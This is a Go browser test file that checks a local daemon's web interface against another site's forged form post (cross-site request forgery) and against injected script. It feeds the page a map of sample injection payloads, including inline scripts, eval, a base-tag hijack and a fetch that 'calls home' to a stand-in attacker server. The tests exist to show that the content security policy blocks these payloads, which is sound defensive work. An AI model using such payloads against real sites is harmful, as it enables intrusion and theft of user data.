package browser

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// TestAnotherSitesFormIsRefused lets a page of another site send the form of an action, as a real browser sends it: with
// whatever the daemon gave the browser, and with where it comes from, which no page can hide.
func TestAnotherSitesFormIsRefused(t *testing.T) {
	s := serve(t, 3)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, `<!doctype html><title>prizes</title><link rel=icon href=data:,>
<form method=post action="%[1]s%[2]s/rotate"><input name=reason value=prize><input name=kind value=compromised><button>Win</button></form>
<iframe src="%[1]s/"></iframe>`, s.url, one)
	}))
	t.Cleanup(evil.Close)
	p := s.open(t)
	p.url, p.deaf = evil.URL, true
	p.visit("/")
	if got := run(p, chromedp.Evaluate[bool](`(() => { try { return frames[0].document !== null } catch { return false } })()`)); got {
		t.Error("another site reads the page in a frame")
	}
	p.do(chromedp.Click(chromedp.CSS("button")), chromedp.WaitVisible(chromedp.CSS("pre")))
	if answer := run(p, chromedp.Text(chromedp.CSS("pre"))); !strings.Contains(answer, "another site's page made the browser send this") {
		t.Errorf("the daemon answers %s", answer)
	}
	if did := s.acts.done(); did != "[]" {
		t.Errorf("did %s", did)
	}
}

// bound makes the page's policy hold for what the debugger evaluates, too.
func bound(p *runtime.EvaluateParams) {
	allow := false
	p.AllowUnsafeEvalBlockedByCSP = &allow
}

// TestThePolicyStopsForeignScript puts into a page what somebody could get into it through a hole, and sees that nothing of it
// runs, loads or leaves.
func TestThePolicyStopsForeignScript(t *testing.T) {
	s := serve(t, 3)
	reached := make(chan string, 8)
	evil := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { reached <- r.URL.Path }))
	t.Cleanup(evil.Close)
	for name, inject := range map[string]string{
		"inline script":    `const e = document.createElement("script"); e.textContent = "window.owned = true"; document.body.append(e)`,
		"handler":          `const e = document.createElement("div"); e.innerHTML = '<p id=x onclick="window.owned = true">'; document.body.append(e); document.getElementById("x").click()`,
		"eval":             `try { (0, eval)("window.owned = true") } catch {}`,
		"foreign script":   `const e = document.createElement("script"); e.src = "` + evil.URL + `/script"; document.body.append(e); await new Promise(r => { e.onerror = e.onload = r })`,
		"foreign picture":  `const e = new Image(); e.src = "` + evil.URL + `/picture"; document.body.append(e); await new Promise(r => { e.onerror = e.onload = r })`,
		"call home":        `await fetch("` + evil.URL + `/home", {mode: "no-cors"}).catch(() => 0)`,
		"foreign form":     `const e = document.createElement("form"); e.action = "` + evil.URL + `/form"; document.body.append(e); e.submit()`,
		"other base":       `const e = document.createElement("base"); e.href = "` + evil.URL + `/"; document.head.append(e); const a = document.createElement("a"); a.href = "x"; window.owned = a.href.startsWith("` + evil.URL + `")`,
		"style of its own": `const e = document.createElement("style"); e.textContent = "body { display: none }"; document.body.append(e); window.owned = getComputedStyle(document.body).display === "none"`,
	} {
		t.Run(name, func(t *testing.T) {
			p := s.open(t)
			p.deaf = true // the policy complains there
			p.visit(one)
			// Chromium's debugger runs this, as a script that got in would.
			violated := run(p, chromedp.Evaluate[bool](`(async () => {
				let told = 0;
				document.addEventListener("securitypolicyviolation", () => told++);
				`+inject+`;
				for (let i = 0; i < 50 && told === 0; i++) await new Promise(requestAnimationFrame);
				return told > 0;
			})()`, chromedp.EvalAwaitPromise, bound))
			if owned := run(p, chromedp.Evaluate[bool]("window.owned === true")); owned || !violated {
				t.Errorf("owned: %t, stopped by the policy: %t", owned, violated)
			}
		})
	}
	close(reached)
	for path := range reached {
		t.Errorf("%s was reached", path)
	}
}
